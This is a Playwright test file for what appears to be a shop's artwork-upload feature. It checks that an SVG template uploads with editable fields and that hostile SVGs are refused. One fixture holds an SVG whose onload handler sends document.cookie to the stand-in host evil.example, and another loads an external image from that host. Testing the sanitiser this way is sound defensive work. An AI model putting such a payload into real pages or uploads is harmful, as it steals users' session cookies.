import { expect, test } from '@playwright/test';
import { TEAM, loginAs, shot } from './helpers';

const KABADDI = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 200 240">
<rect width="200" height="240" rx="14" fill="#b71c1c"/><circle cx="100" cy="90" r="52" fill="#ffca28"/>
<text data-placeholder="name" x="100" y="190" font-size="26" fill="#ffffff" font-family="Anton" text-anchor="middle">Pune Panthers</text>
<text data-placeholder="year" x="100" y="222" font-size="14" fill="#ffe082" font-family="Oswald" text-anchor="middle">2026</text>
</svg>`;
const HOSTILE = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 100">
<circle cx="50" cy="50" r="40" fill="#e53935" onload="fetch('https://evil.example/?c='+document.cookie)"/></svg>`;
const EXTERNAL = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 100"><image href="https://evil.example/x.png" width="100" height="100"/></svg>`;

const svgFile = (name: string, text: string) => ({ name, mimeType: 'image/svg+xml', buffer: Buffer.from(text) });

test('the owner uploads an SVG template; a hostile one is refused with the reason', async ({ page }) => {
    test.setTimeout(180_000); // a busy 2-core host
    await loginAs(page, TEAM.owner.phone, TEAM.owner.password);
    await page.getByRole('menuitem', { name: 'Templates & clip-art' }).click();
    // the shop's own drawings are there from the start
    await expect(page.getByRole('row').filter({ hasText: 'Rupee coin' })).toBeVisible();
    await page.getByRole('textbox', { name: 'Search' }).fill('Diwali');
    await expect(page.getByRole('row').filter({ hasText: 'Diwali' })).toBeVisible();
    await shot(page, '90-artwork-list');

    await page.getByRole('link', { name: 'Upload SVG' }).click();
    await expect(page).toHaveURL(/#\/artwork\/create/);
    await page.getByRole('textbox', { name: 'Title' }).fill('Kabaddi club');
    await page.getByRole('combobox', { name: 'Theme' }).click();
    await page.getByRole('option', { name: 'Sports' }).click();
    await page.getByTestId('svg-file').setInputFiles(svgFile('kabaddi.svg', KABADDI));
    await expect(page.getByRole('img', { name: 'The drawing' })).toBeVisible();
    await shot(page, '91-artwork-upload');
    await page.getByRole('button', { name: 'Save' }).click();
    await page.getByRole('textbox', { name: 'Search' }).fill('Kabaddi');
    await expect(page.getByRole('row').filter({ hasText: 'Kabaddi club' })).toBeVisible();
    // on the studio's shelf, its two texts editable
    const shelf = (await (await page.request.get('/api/studio/shelf/?kind=template')).json()) as { title: string; placeholders: { field: string }[] }[];
    expect(shelf.find((t) => t.title === 'Kabaddi club')?.placeholders.map((p) => p.field)).toEqual(['name', 'year']);

    for (const [file, text, reason] of [
        ['onload.svg', HOSTILE, 'event handler'],
        ['external.svg', EXTERNAL, 'another document'],
    ] as const) {
        await page.goto('/office/#/artwork/create');
        await page.getByRole('textbox', { name: 'Title' }).fill(`Hostile ${file}`);
        await page.getByRole('combobox', { name: 'Kind' }).click();
        await page.getByRole('option', { name: 'Clip-art' }).click();
        await page.getByTestId('svg-file').setInputFiles(svgFile(file, text));
        await page.getByRole('button', { name: 'Save' }).click();
        await expect(page.getByText(reason).first()).toBeVisible();
        await shot(page, `92-artwork-refused-${file.replace('.svg', '')}`);
    }
    const all = (await (await page.request.get('/api/office/artwork?filter={"q":"Hostile"}')).json()) as unknown[];
    expect(all).toHaveLength(0);
});

test('only the owner sees templates and clip-art', async ({ page }) => {
    await loginAs(page, TEAM.order_desk.phone, TEAM.order_desk.password);
    await expect(page.getByRole('menuitem', { name: 'Templates & clip-art' })).toHaveCount(0);
});
